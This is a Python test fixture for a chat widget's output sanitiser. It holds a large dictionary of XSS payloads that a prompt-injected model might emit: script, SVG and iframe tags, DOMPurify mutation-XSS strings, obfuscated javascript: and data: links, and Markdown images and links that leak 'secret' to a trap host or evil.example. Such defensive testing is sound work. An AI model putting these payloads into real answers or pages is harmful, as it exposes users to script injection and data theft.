"""Hostile answers: what a prompt-injected or careless model could write into the widget.

`{trap}` is the trap server's base URL (`http://127.0.0.1:PORT`) and `{trap_host}` its host and
port: any request that reaches it is a leak. `window.__pwned = 1` and `alert()` are how a payload
would prove it ran. Sources cover: raw HTML of every dangerous kind, Markdown images and links in
all their forms, URL schemes with obfuscations, code-fence breakouts, DOM clobbering, classic
DOMPurify mutation-XSS strings, and citation-shaped links.
"""

from __future__ import annotations

PAYLOADS: dict[str, str] = {
    # Raw HTML: shown as text, never parsed.
    "script tag": "Answer <script>window.__pwned = 1</script> done",
    "script tag, upper case, remote": "<SCRIPT SRC={trap}/script.js></SCRIPT>",
    "img onerror": '<img src=x onerror="window.__pwned = 1">',
    "img to the trap": '<img src="{trap}/img.png?q=secret">',
    "img srcset": '<img srcset="{trap}/srcset.png 1x">',
    "svg onload": '<svg onload="window.__pwned = 1"><circle r="1" /></svg>',
    "svg script": "<svg><script>window.__pwned = 1</script></svg>",
    "svg xlink": '<svg><a xlink:href="javascript:window.__pwned = 1"><text y="20">x</text></a></svg>',
    "math xlink": '<math><mi xlink:href="javascript:window.__pwned = 1">x</mi></math>',
    "iframe javascript": '<iframe src="javascript:window.__pwned = 1"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
    "object": '<object data="{trap}/object"></object>',
    "embed": '<embed src="{trap}/embed">',
    "style import": "<style>@import url({trap}/style.css);</style>",
    "style attribute": '<div style="background: url({trap}/bg.png)">styled</div>',
    "form": '<form action="{trap}/form"><input name="q" value="secret"><button>Go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0; url={trap}/refresh">',
    "base": '<base href="{trap}/">[relative](x)',
    "link prefetch": '<link rel="prefetch" href="{trap}/prefetch">',
    "audio autoplay": '<audio src="{trap}/a.mp3" autoplay></audio>',
    "video source onerror": '<video><source onerror="window.__pwned = 1"></video>',
    "details ontoggle": '<details open ontoggle="window.__pwned = 1"><summary>x</summary></details>',
    "input autofocus": '<input autofocus onfocus="window.__pwned = 1">',
    "body onload": "<body onload=window.__pwned=1>",
    "raw a javascript": '<a href="javascript:window.__pwned = 1">click</a>',
    "raw a with newline entity": '<a href="java&#x0A;script:window.__pwned = 1">click</a>',
    "raw a to the trap": '<a href="{trap}/raw-a">click</a>',
    "html comment": "before <!-- <img src=x onerror=window.__pwned=1> --> after",
    "unterminated tag": 'Text <img src="{trap}/unterminated.png" onerror="window.__pwned = 1"',
    "dom clobbering": '<a id="bookwise-widget" name="Bookwise">x</a><form name="getElementById"></form>',
    # Classic DOMPurify mutation-XSS strings.
    "mxss noscript": '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "mxss svg style": '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">',
    "mxss math form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>"
    ),
    # Markdown links: only same-origin http(s) links survive.
    "md javascript link": "[click](javascript:window.__pwned=1)",
    "md javascript mixed case": "[click](JaVaScRiPt:alert(1))",
    "md javascript tab entity": "[click](jav&#x09;ascript:alert(1))",
    "md javascript decimal entity": "[click](&#106;avascript:alert(1))",
    "md javascript in angle brackets": "[click](<javascript:alert(1)>)",
    "md javascript with comment": "[click](javascript://%0Aalert(1))",
    "md javascript nul": "[click](java\u0000script:alert(1))",
    "md data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md vbscript link": "[click](vbscript:msgbox(1))",
    "md link to the trap": "[read more]({trap}/phish?q=secret)",
    "md protocol-relative link": "[read more](//{trap_host}/protocol-relative)",
    "md path that looks protocol-relative": "[read more](/.//{trap_host}/dot-slash)",
    "md mailto link": "[mail](mailto:evil@example.com?body=secret)",
    "md link title breakout": '[x](/docs "a\\" onmouseover=\\"window.__pwned=1")',
    "md nested links": "[[inner](javascript:alert(1))](javascript:alert(2))",
    "md reference link": "[click][evil]\n\n[evil]: javascript:alert(1)",
    "autolink to the trap": "<{trap}/autolink?q=secret>",
    "bare url to the trap": "See {trap}/bare?q=secret for more.",
    "www autolink": "See www.evil.example/x for more.",
    # Markdown images: never an <img>, only the alt text.
    "md image to the trap": "![secret diagram]({trap}/md.png?q=secret)",
    "md reference image": "![diagram][img]\n\n[img]: {trap}/ref.png?q=secret",
    "md image javascript": "![x](javascript:alert(1))",
    "md image inside a link": "[![x]({trap}/linked.png)]({trap}/link)",
    # Code fences: the language is a class name, and the code is text.
    "fence language breakout": '```"><img src=x onerror=window.__pwned=1>\n<script>alert(1)</script>\n```',
    "fence language with attributes": "```js onload=alert(1) class=x\nconsole.log(1)\n```",
    "inline code html": "Use `<img src=x onerror=window.__pwned=1>` here",
    # Citation-shaped attacks.
    "citation link javascript": "Quokkas [1](javascript:window.__pwned=1) eat leaves [1].",
    "citation then raw html": "See [1]<img src=x onerror=window.__pwned=1> and [2](javascript:alert(1)).",
    "heading with html": "# Title <img src=x onerror=window.__pwned=1>\n\nText [1].",
    "table with html": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
}
